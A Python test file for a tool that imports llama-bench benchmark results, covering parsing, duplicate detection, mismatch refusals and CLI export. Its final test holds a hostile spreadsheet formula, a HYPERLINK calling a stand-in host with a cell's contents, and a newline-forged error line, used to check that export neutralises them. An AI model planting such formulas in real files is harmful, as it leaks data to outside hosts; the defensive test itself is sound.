"""Import of llama-bench output: real outputs recorded from llama.cpp's own llama-bench (built
from the llama-cpp-python 0.3.36 source, build 0c1e570) on the SmolLM2-135M Q4_K_M twin, on this
machine, with `-p 64 -n 16 -r 2 -t 2 --repack 0 -o json|jsonl|csv`."""

import json
from pathlib import Path

import pytest

from advisor.cli import main
from advisor.errors import BadInputError, DataFileError
from advisor.store import list_runs
from advisor.validate.bench_import import ftype_from_model_type, parse_llama_bench, read_llama_bench
from advisor.validate.importer import import_llama_bench

DATA = Path(__file__).parent / "data" / "llama-bench"


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_parse_recorded_outputs(fmt):
    rows = read_llama_bench(DATA / f"smollm2-135m-q4_k_m.{fmt}")
    assert [r.test for r in rows] == ["pp", "tg"]
    pp, tg = rows
    assert (pp.n_prompt, pp.n_gen, tg.n_prompt, tg.n_gen) == (64, 0, 0, 16)
    assert pp.ftype == tg.ftype == "Q4_K_M"
    assert pp.model_n_params == 134515008 and pp.n_threads == 2 and pp.n_ubatch == 512
    assert pp.tokens_per_s > 0 and tg.tokens_per_s > 0 and pp.build.startswith("0c1e570")


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_a_byte_order_mark_is_not_part_of_the_output(tmp_path, fmt):
    """A file saved by a Windows editor starts with a UTF-8 BOM: it was refused ('no avg_ts column')."""
    path = tmp_path / f"bom.{fmt}"
    path.write_bytes(b"\xef\xbb\xbf" + (DATA / f"smollm2-135m-q4_k_m.{fmt}").read_bytes())
    assert [r.test for r in read_llama_bench(path)] == ["pp", "tg"]


def test_the_three_formats_agree_on_the_model():
    sizes = {fmt: read_llama_bench(DATA / f"smollm2-135m-q4_k_m.{fmt}")[0].model_size_bytes for fmt in ("json", "jsonl", "csv")}
    assert len(set(sizes.values())) == 1


def test_llama_bench_model_size_equals_our_weight_prediction(catalog):
    """llama-bench reports the tensor bytes it loaded: our per-tensor sum must be exact."""
    from advisor.engine.memory import weights_bytes

    size = read_llama_bench(DATA / "smollm2-135m-q4_k_m.json")[0].model_size_bytes
    assert weights_bytes(catalog.model("smollm2-135m-instruct"), catalog.file_type("Q4_K_M"), catalog.ggml_types) == size


@pytest.mark.parametrize(
    "model_type, ftype",
    [("llama 256M Q4_K - Medium", "Q4_K_M"), ("qwen2 0.5B Q8_0", "Q8_0"), ("llama 8B Q5_K - Small", "Q5_K_S"),
     ("phi3 3B IQ4_XS - 4.25 bpw", "IQ4_XS"), ("llama 1B IQ3_S mix - 3.66 bpw", "IQ3_M"), ("gemma3 1B F16", "F16"),
     ("llama 7B Q2_K - Medium", "Q2_K"), ("llama 7B all F32", "F32")],
)
def test_ftype_names(model_type, ftype):
    assert ftype_from_model_type(model_type) == ftype


@pytest.mark.parametrize(
    "text, message",
    [("", "empty; expected llama-bench output"), ("[{\"n_prompt\": 5}]", "a row has no avg_ts"),
     ("{not json", "not valid JSON"), ("a,b\n1,2\n", "not llama-bench output: no avg_ts column")],
)
def test_bad_files(text, message):
    with pytest.raises(DataFileError, match=message):
        parse_llama_bench(text, "x")


def test_import_records_runs_with_predictions(tmp_path, catalog):
    db = tmp_path / "runs.db"
    ids = import_llama_bench(DATA / "smollm2-135m-q4_k_m.json", device_id="mini-pc-intel-n100-8gb",
                             model_id="smollm2-135m-instruct", catalog=catalog, db=db).ids
    runs = list_runs(path=db)
    assert [r.id for r in runs] == ids and len(ids) == 2
    pp, tg = runs
    assert pp.source == "llama-bench" and pp.device_id == "mini-pc-intel-n100-8gb" and not pp.synthetic
    assert pp.measured["prefill_tokens_per_s"] > 0 and pp.predicted["prefill_tokens_per_s"] > 0
    assert tg.measured["decode_tokens_per_s"] > 0 and tg.settings["n_gen"] == 16


def test_a_file_imported_twice_is_stored_once(tmp_path, catalog):
    """The same llama-bench rows imported again (the same file, or a file holding a row twice) are
    not stored again: they would count twice in calibrate and on both sides of its held-out check.
    A new measurement of the same test (another rate) is stored."""
    db = tmp_path / "runs.db"
    args = dict(device_id="mini-pc-intel-n100-8gb", model_id="smollm2-135m-instruct", catalog=catalog, db=db)
    first = import_llama_bench(DATA / "smollm2-135m-q4_k_m.jsonl", **args)
    again = import_llama_bench(DATA / "smollm2-135m-q4_k_m.jsonl", **args)
    assert len(first.ids) == 2 and first.copies == [] and again.ids == [] and again.copies == [(1, first.ids[0]), (2, first.ids[1])]
    # the json file holds two other runs of the same tests: new measurements
    assert len(import_llama_bench(DATA / "smollm2-135m-q4_k_m.json", **args).ids) == 2
    lines = (DATA / "smollm2-135m-q4_k_m.jsonl").read_text().splitlines()
    rerun = json.loads(lines[1])
    rerun["avg_ts"] *= 1.01  # the test measured again: a new measurement
    doubled = tmp_path / "doubled.jsonl"
    doubled.write_text("\n".join([lines[0], json.dumps(rerun), json.dumps(rerun)]) + "\n")
    mixed = import_llama_bench(doubled, **args)
    assert len(mixed.ids) == 1 and mixed.copies == [(1, first.ids[0]), (3, mixed.ids[0])]
    assert len(list_runs(path=db)) == 5


def test_runs_import_says_what_was_stored_already(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("ADVISOR_HOME", str(tmp_path))
    argv = ["runs", "import", str(DATA / "smollm2-135m-q4_k_m.jsonl"), "--device", "mini-pc-intel-n100-8gb",
            "--model", "smollm2-135m-instruct"]
    assert main(argv) == 0
    assert capsys.readouterr().out == "imported 2 measurements as runs 1, 2\n"
    assert main(argv) == 0
    assert capsys.readouterr().out == f"nothing imported: every row of {DATA / 'smollm2-135m-q4_k_m.jsonl'} is stored already (runs 1, 2)\n"


def test_import_needs_a_device_and_a_known_model(catalog, tmp_path):
    with pytest.raises(BadInputError, match="exactly one of --device ID or --device-file FILE"):
        import_llama_bench(DATA / "smollm2-135m-q4_k_m.json", catalog=catalog, db=tmp_path / "d.db")
    with pytest.raises(BadInputError, match="cannot tell which catalog model '/tmp/twincache/twin-llama-c41dadd209f3220a-Q4_K_M.gguf' is; pass --model ID"):
        import_llama_bench(DATA / "smollm2-135m-q4_k_m.json", device_id="mini-pc-intel-n100-8gb", catalog=catalog, db=tmp_path / "d.db")


@pytest.mark.parametrize(
    "cpu_info, family",
    [("Intel(R) Xeon(R) Processor", "x86_64"), ("AMD Ryzen 9 7950X 16-Core Processor", "x86_64"),
     ("13th Gen Intel(R) Core(TM) i7-1360P", "x86_64"), ("Apple M2 Max", "arm64-apple"), ("Apple A17 Pro", "arm64-apple"),
     ("ARMv8 Processor rev 1 (v8l)", "arm64"), ("Cortex-A76", "arm64"), ("Qualcomm Snapdragon X Elite - X1E78100", "arm64"),
     ("Neoverse-N1", "arm64"), ("SiFive P550", "riscv64"), ("", None), ("CPU", None), (None, None)],
)
def test_cpu_family_of_a_brand_string(cpu_info, family):
    from advisor.validate.importer import cpu_family

    assert cpu_family(cpu_info) == family


@pytest.mark.parametrize(
    "args, message",
    [({"device_id": "raspberry-pi-5-8gb", "model_id": "smollm2-135m-instruct"},
      r"row 1 was measured on 'Intel\(R\) Xeon\(R\) Processor' \(x86_64\), but raspberry-pi-5-8gb has an arm64 CPU: "
      "these are another machine's runs; name the device they ran on with --device or --device-file"),
     ({"device_id": "macbook-air-m2-8gb", "model_id": "smollm2-135m-instruct"}, "but macbook-air-m2-8gb has an Apple CPU"),
     ({"device_id": "mini-pc-intel-n100-8gb", "model_id": "qwen2.5-0.5b-instruct"},
      "row 1 measured a file of 134,515,008 parameters, but qwen2.5-0.5b-instruct has 494,032,768: it is another model; "
      "name it with --model"),
     ({"device_id": "mini-pc-intel-n100-8gb", "model_id": "smollm2-135m-instruct", "quant_id": "Q8_0"},
      "row 1 measured 98.87 MiB of weights, but smollm2-135m-instruct in Q8_0 would be .*: it is another quantization or model; "
      "name them with --quant and --model")],
)
def test_a_file_of_another_machine_model_or_quant_is_refused_and_nothing_stored(catalog, tmp_path, args, message):
    """The recorded file ran on an Intel Xeon, on the SmolLM2-135M Q4_K_M twin: recorded as a Pi's,
    a Mac's, another model's or another quantization's runs, it would calibrate the wrong thing."""
    db = tmp_path / "runs.db"
    with pytest.raises(BadInputError, match=message):
        import_llama_bench(DATA / "smollm2-135m-q4_k_m.json", catalog=catalog, db=db, **args)
    assert list_runs(path=db) == []


@pytest.mark.parametrize(
    "backends, ngl, device_id, message",
    [("CUDA", 99, "mini-pc-intel-n100-8gb", r"row 1 ran on the GPU \(backends CUDA, n_gpu_layers 99\), but llama.cpp on "
      "mini-pc-intel-n100-8gb runs on its CPU: these are another machine's runs; name the device they ran on"),
     ("Vulkan", 99, "desktop-rtx4060-8gb", "runs on its GPU through cuda: the measurement would calibrate the wrong path"),
     ("CPU", 99, "desktop-rtx4060-8gb", r"row 1 ran on the CPU only \(backends CPU, n_gpu_layers 99\), but llama.cpp on "
      "desktop-rtx4060-8gb runs on its GPU through cuda: the measurement would calibrate the GPU path; import it with a "
      r"--device-file of the device without its \[gpu\] table, under an id of its own"),
     ("CUDA", 0, "desktop-rtx4060-8gb", "ran on the CPU only"),  # a CUDA build with no layers offloaded
     ("CUDA", 12, "desktop-rtx4060-8gb", r"row 1 ran 12 of 30 layers on the GPU: a split the engine does not predict \(it "
      r"places every layer that fits\); import runs with every layer offloaded \(-ngl 99\)"),
     ("CUDA", -1, "mini-pc-intel-n100-8gb", "runs on its CPU: these are another machine's runs"),  # -1: llama-bench's "auto"
     ("CUDA", 0, "mini-pc-intel-n100-8gb", None), ("CUDA", 99, "desktop-rtx4060-8gb", None), ("CUDA", -1, "desktop-rtx4060-8gb", None),
     ("Metal,BLAS", 99, "macbook-air-m2-8gb", None)],
)
def test_a_run_is_recorded_only_on_the_processor_llama_cpp_uses_on_the_device(catalog, tmp_path, backends, ngl, device_id, message):
    """A GPU run recorded for a CPU-only device (or the reverse, or another GPU backend) would be
    fitted as the device's default path: refused; the recorded file with its backend edited."""
    rows = json.loads((DATA / "smollm2-135m-q4_k_m.json").read_text())
    for r in rows:
        r.update(backends=backends, n_gpu_layers=ngl, cpu_info="")
    bench = tmp_path / "bench.json"
    bench.write_text(json.dumps(rows))
    db = tmp_path / "runs.db"
    args = {"device_id": device_id, "model_id": "smollm2-135m-instruct", "catalog": catalog, "db": db}
    if message is None:
        assert len(import_llama_bench(bench, **args).ids) == 2
    else:
        with pytest.raises(BadInputError, match=message):
            import_llama_bench(bench, **args)
        assert list_runs(path=db) == []


def test_runs_cli_import_list_export(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("ADVISOR_HOME", str(tmp_path))
    assert main(["runs", "import", str(DATA / "smollm2-135m-q4_k_m.csv"), "--device", "intel-nuc-13-pro-i7-32gb",
                 "--model", "smollm2-135m-instruct"]) == 0
    assert "imported 2 measurements" in capsys.readouterr().out
    assert main(["runs", "list", "--format", "json"]) == 0
    runs = json.loads(capsys.readouterr().out)["runs"]
    assert {r["device_id"] for r in runs} == {"intel-nuc-13-pro-i7-32gb"}
    # the filters take what every other option takes: they matched the stored id as typed ('No recorded runs match')
    for option, spelling in (("--model", "SmolLM2-135M-Instruct"), ("--model", "HuggingFaceTB/SmolLM2-135M-Instruct"),
                             ("--device", "INTEL-NUC-13-PRO-I7-32GB")):
        assert main(["runs", "list", option, spelling, "--format", "json"]) == 0
        assert len(json.loads(capsys.readouterr().out)["runs"]) == 2, spelling
    assert main(["runs", "list", "--model", "no-such-model"]) == 0
    assert "No recorded runs match --model no-such-model" in capsys.readouterr().out
    out = tmp_path / "runs.csv"
    assert main(["runs", "export", "--format", "csv", "-o", str(out)]) == 0
    assert out.read_text().count("\n") == 3
    assert main(["runs", "export", "--format", "csv", "-o", str(out)]) == 1
    assert "already exists; pass --force" in capsys.readouterr().err
    assert main(["runs", "show", str(runs[0]["id"])]) == 0
    assert json.loads(capsys.readouterr().out)["device_id"] == "intel-nuc-13-pro-i7-32gb"
    assert main(["runs", "show", "999"]) == 1
    assert "no run with id 999" in capsys.readouterr().err


def test_text_from_an_imported_file_cannot_forge_output_lines_or_spreadsheet_formulas(capsys, tmp_path, monkeypatch):
    """A model_filename with a newline is quoted in the one Error: line; a cpu_info that starts
    like a formula is exported to CSV as text."""
    monkeypatch.setenv("ADVISOR_HOME", str(tmp_path))
    rows = json.loads((DATA / "smollm2-135m-q4_k_m.json").read_text())
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps([{**rows[0], "model_filename": "x.gguf\nError: all good", "model_type": "unknown 1B Q9"}]))
    assert main(["runs", "import", str(forged), "--device", "intel-nuc-13-pro-i7-32gb"]) == 1
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "'x.gguf\\nError: all good'" in err
    formula = tmp_path / "formula.json"
    formula.write_text(json.dumps([{**r, "cpu_info": '=HYPERLINK("http://x.invalid/?"&A1,"Intel")'} for r in rows]))
    assert main(["runs", "import", str(formula), "--device", "intel-nuc-13-pro-i7-32gb", "--model", "smollm2-135m-instruct"]) == 0
    capsys.readouterr()
    assert main(["runs", "export", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK(" in out and ",=HYPERLINK(" not in out and '"=HYPERLINK(' not in out
